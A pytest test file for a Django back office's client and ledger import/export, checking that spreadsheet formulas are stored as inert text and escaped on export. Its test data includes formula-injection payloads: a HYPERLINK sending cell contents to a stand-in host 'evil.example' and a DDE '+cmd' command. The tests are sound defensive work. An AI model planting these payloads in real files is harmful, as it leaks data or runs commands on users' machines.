"""Hostile files in the back office's imports (clients and the ledger), and what its exports let out.

What a real back office expects, decided here: a text that looks like a spreadsheet formula ("=HYPERLINK(…)",
"=1+1", "+cmd|…", "@SUM(…)") is data, stored as typed (a phone "+225 07…" starts the same way, and nothing in the
app evaluates it); a formula where a number belongs is an error on its row; and no export ever lets a formula out
live: CSV cells get a leading apostrophe, XLSX cells are text, and importing an export back changes nothing. A file
that cannot be read at all (not UTF-8, not an XLSX) is refused with a message that tells the clerk what to do."""

from __future__ import annotations

import io
import os
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.utils import translation

from clients.models import Client
from clients.schema import NOT_INTEGER
from fieldsales.spreadsheets import NOT_UTF8, UNREADABLE
from kpis.models import LedgerEntry
from tests.clients.test_import_export import (
    admin_export,
    admin_import,
    admin_import_preview,
    dataset_of,
    filled,  # noqa: F401 (a fixture)
    from_file,
    ledger_csv,
    ledger_snapshot,
    pos_row,
    snapshot,
    to_file,
)
from tests.factories import LedgerEntryFactory, OrderLineFactory, SubmissionFactory, VisitFactory
from tests.sync.test_push import (
    Catalogue,
    catalogue,  # noqa: F401 (a fixture)
)
from workflows.models import OrderLine, Visit

CLIENTS = "/admin/clients/client/import/"
LEDGER = "/admin/kpis/ledgerentry/import/"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "quartier": "=1+1",
    "phone": "+cmd|' /C calc'!A0",
}
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def po(catalogue: Catalogue) -> Catalogue:  # noqa: F811 (the fixture imported above)
    """The French of the sources' catalogue."""
    return catalogue


@pytest.fixture
def clients(filled: list[Client]) -> list[Client]:  # noqa: F811 (the fixture imported above)
    """Three points of sale and a wholesaler, saved (see `filled`)."""
    return filled


@pytest.fixture
def clerk_fr(clerk_client: Any, clients: list[Client]) -> Any:
    """The clerk, reading the admin in French, with `clients` already saved."""
    clerk_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"
    return clerk_client


def french(message: Any, **params: Any) -> str:
    with translation.override("fr"):
        return str(message % params if params else message)


def everything() -> tuple[Any, ...]:
    return snapshot(), ledger_snapshot()


def form_errors(response: Any) -> list[str]:
    assert response.status_code == 200
    assert response.context.get("confirm_form") is None, "a file that cannot be read offers no confirm"
    return [str(error) for error in response.context["form"].errors["import_file"]]


def live_formulas_in_csv(content: bytes) -> list[str]:
    """Cells of a CSV export that a spreadsheet would run."""
    rows = from_file(content, "csv")
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    return [cell for cell in cells if cell.startswith(SPREADSHEET_STARTS) and not _number(cell)]


def formula_cells_in_xlsx(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


# Formulas in text cells: stored as typed, never exported live ----------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_texts_are_imported_as_typed_and_exported_inert(clerk_fr, fmt):
    rows = [
        pos_row(name=FORMULAS["name"], quartier=FORMULAS["quartier"], phone=FORMULAS["phone"], reps=""),
        pos_row(name="@SUM(A1:A9)", quartier="-2+3", reps=""),
        pos_row(name="Boutique +225", phone="+225 07 07 07 07", lat="-4.5", quartier="Cocody", reps=""),
    ]
    content = to_file(dataset_of(rows), fmt)
    if fmt == "xlsx":
        # Typed as text, as a spreadsheet keeps them once the clerk types them after an apostrophe.
        book = openpyxl.load_workbook(io.BytesIO(content))
        for row in book.active.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
        output = io.BytesIO()
        book.save(output)
        content = output.getvalue()

    response = admin_import(clerk_fr, Client, CLIENTS, content, fmt)

    assert response.status_code == 200
    stored = Client.objects.get(name=FORMULAS["name"])
    assert (stored.phone, stored.attributes["quartier"]) == (FORMULAS["phone"], FORMULAS["quartier"])
    assert Client.objects.get(name="@SUM(A1:A9)").attributes["quartier"] == "-2+3"
    assert Client.objects.get(name="Boutique +225").phone == "+225 07 07 07 07"

    csv_export = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "csv").content
    xlsx_export = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "xlsx").content

    assert live_formulas_in_csv(csv_export) == []
    assert f"'{FORMULAS['name']}" in from_file(csv_export, "csv")["name"]
    assert formula_cells_in_xlsx(xlsx_export) == []
    exported = from_file(xlsx_export, "xlsx")
    assert f"'{FORMULAS['name']}" in exported["name"]
    # In typed cells only "=" makes a formula: a phone stays as the clerk knows it.
    assert "+225 07 07 07 07" in exported["phone"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_texts_imported_back_changes_nothing(clerk_fr, fmt):
    for client, name in zip(Client.objects.order_by("name"), ["=1+1", "@SUM(A1)", "+33 1 23", "-x"], strict=False):
        Client.objects.filter(pk=client.pk).update(name=name)
    before = everything()

    exported = admin_export(clerk_fr, "/admin/clients/client/export/", Client, fmt).content
    response = admin_import(clerk_fr, Client, CLIENTS, exported, fmt)

    assert response.status_code == 200
    assert [str(message) for message in response.context["messages"]] == [
        "Importation terminée: 0 nouveaux, 0 modifiés, 0 supprimés et 4 sautés pour les clients."
    ]
    assert everything() == before


def test_a_name_a_phone_could_type_with_a_control_character_still_exports_to_xlsx(clerk_fr, clients):
    """One such character used to stop the whole XLSX export ("IllegalCharacterError")."""
    Client.objects.filter(pk=clients[0].pk).update(name="Boutique\x01Awa")
    response = admin_export(clerk_fr, "/admin/clients/client/export/", Client, "xlsx")
    assert "Boutique\N{REPLACEMENT CHARACTER}Awa" in from_file(response.content, "xlsx")["name"]


@pytest.mark.parametrize(
    ("cells", "field", "message"),
    [
        ({"surface_m2": "=1+1"}, "surface_m2", NOT_INTEGER),
        ({"surface_m2": '=HYPERLINK("http://evil.example","12")'}, "surface_m2", NOT_INTEGER),
    ],
    ids=["sum", "hyperlink"],
)
def test_a_formula_where_a_number_belongs_is_an_error_on_its_row_in_french_and_the_file_writes_nothing(
    clerk_fr,
    clients,
    po,
    cells,
    field,
    message,
):
    before = everything()
    content = to_file(
        dataset_of([pos_row(name="Bonne ligne", reps=""), pos_row(name="Formule", reps="", **cells)]), "csv"
    )

    response = admin_import_preview(clerk_fr, Client, CLIENTS, content, "csv")

    assert response.context.get("confirm_form") is None
    [invalid] = response.context["result"].invalid_rows
    assert (invalid.number, invalid.field_specific_errors) == (2, {field: [french(message)]})
    po.assert_french(invalid.field_specific_errors[field][0], message)
    with translation.override("en"):
        assert french(message) != str(message), "the French of this message is in the catalogue"
    assert everything() == before


def test_a_live_formula_cell_of_an_xlsx_is_never_stored_as_its_formula(clerk_fr):
    """An XLSX formula cell is read as the value the spreadsheet computed and saved with it; one saved without a
    value (written by a program, not by a spreadsheet) is an empty cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(pos_row()))
    sheet.append(list(pos_row(name="Sans valeur", reps="", surface_m2="=6*7").values()))
    output = io.BytesIO()
    book.save(output)

    response = admin_import(clerk_fr, Client, CLIENTS, output.getvalue(), "xlsx")

    assert response.status_code == 200
    assert "surface_m2" not in Client.objects.get(name="Sans valeur").attributes


# The ledger ---------------------------------------------------------------------------------------------


def test_a_ledger_reference_that_looks_like_a_formula_is_stored_as_typed_and_exported_inert(clerk_fr, clients):
    shop = clients[0]
    content = ledger_csv(
        f'{shop.pk},,2026-10-01,invoice,"=HYPERLINK(""http://evil.example"",""F1"")",150,',
        f"{shop.pk},,2026-10-02,payment,@SUM(A1:A2),50,",
    )

    response = admin_import(clerk_fr, LedgerEntry, LEDGER, content, "csv")

    assert response.status_code == 200
    assert sorted(LedgerEntry.objects.values_list("reference", flat=True)) == [
        '=HYPERLINK("http://evil.example","F1")',
        "@SUM(A1:A2)",
    ]
    csv_export = admin_export(clerk_fr, "/admin/kpis/ledgerentry/export/", LedgerEntry, "csv").content
    xlsx_export = admin_export(clerk_fr, "/admin/kpis/ledgerentry/export/", LedgerEntry, "xlsx").content
    assert live_formulas_in_csv(csv_export) == []
    assert formula_cells_in_xlsx(xlsx_export) == []
    before = ledger_snapshot()
    response = admin_import(clerk_fr, LedgerEntry, LEDGER, csv_export, "csv")
    assert "0 nouveaux, 0 modifiés, 0 supprimés et 2 sautés" in response.content.decode()
    assert ledger_snapshot() == before


@pytest.mark.parametrize("amount", ["=1+1", "=SUM(A1:A2)", "+cmd|' /C calc'!A0", "@SUM(A1)"])
def test_a_formula_as_a_ledger_amount_is_an_error_and_the_file_writes_nothing(clerk_fr, clients, po, amount):
    shop = clients[0]
    LedgerEntryFactory(client=shop, reference="F0001", amount=Decimal("10"))
    before = everything()
    content = ledger_csv(f"{shop.pk},,2026-10-01,invoice,F0001,20,", f'{shop.pk},,2026-10-02,invoice,F0002,"{amount}",')

    response = admin_import_preview(clerk_fr, LedgerEntry, LEDGER, content, "csv")

    assert response.context.get("confirm_form") is None
    [invalid] = response.context["result"].invalid_rows
    assert invalid.number == 2 and list(invalid.field_specific_errors) == ["amount"]
    assert invalid.field_specific_errors["amount"][0].startswith("Saisissez un nombre")
    assert everything() == before


def test_visit_and_order_exports_do_not_let_a_reps_formula_out(clerk_fr, clients):
    Client.objects.filter(pk=clients[0].pk).update(name='=HYPERLINK("http://evil.example","Clic")')
    visit = VisitFactory(client=clients[0])
    OrderLineFactory(submission=SubmissionFactory(visit=visit), product__name="@SUM(A1:A9)")

    for model, url in ((Visit, "/admin/workflows/visit/export/"), (OrderLine, "/admin/workflows/orderline/export/")):
        assert live_formulas_in_csv(admin_export(clerk_fr, url, model, "csv").content) == []
        assert formula_cells_in_xlsx(admin_export(clerk_fr, url, model, "xlsx").content) == []


# Files that cannot be read ------------------------------------------------------------------------------

UTF8_HEADER = "id,list,name,phone,lat,lng,statement_enabled,reps,quartier,categorie\n"
UNREADABLE_FILES = {
    "latin-1-bytes-in-utf-8": (
        (UTF8_HEADER + ",Points de vente,Épicerie,,,,,,Cocody,Boutique\n").encode()
        + ",Points de vente,Café des Sports,,,,,,Marcory,Boutique\n".encode("latin-1"),
        "csv",
        NOT_UTF8,
        {},
    ),
    "utf-16-with-bom": (
        (UTF8_HEADER + ",Points de vente,Épicerie,,,,,,Cocody,Boutique\n").encode("utf-16"),
        "csv",
        NOT_UTF8,
        {},
    ),
    "an-xlsx-sent-as-csv": (None, "csv", NOT_UTF8, {}),
    "random-bytes-as-xlsx": (os.urandom(4096), "xlsx", UNREADABLE, {"format": "XLSX"}),
    "a-csv-sent-as-xlsx": (UTF8_HEADER.encode(), "xlsx", UNREADABLE, {"format": "XLSX"}),
    "a-broken-zip-as-xlsx": (b"PK\x03\x04" + os.urandom(2048), "xlsx", UNREADABLE, {"format": "XLSX"}),
}


def an_xlsx() -> bytes:
    return to_file(dataset_of([pos_row(name="Épicerie")]), "xlsx")


@pytest.mark.parametrize(("content", "fmt", "message", "params"), UNREADABLE_FILES.values(), ids=UNREADABLE_FILES)
@pytest.mark.parametrize("target", [(Client, CLIENTS), (LedgerEntry, LEDGER)], ids=["clients", "ledger"])
def test_a_file_that_cannot_be_read_is_refused_with_what_to_do_in_the_clerks_language(
    clerk_fr, po, target, content, fmt, message, params
):
    model, url = target
    before = everything()

    response = admin_import_preview(clerk_fr, model, url, content if content is not None else an_xlsx(), fmt)

    [error] = form_errors(response)
    assert error == french(message, **params)
    po.assert_french(error, message, **params)
    assert "Error" not in error and "UnicodeDecodeError" not in error
    assert everything() == before
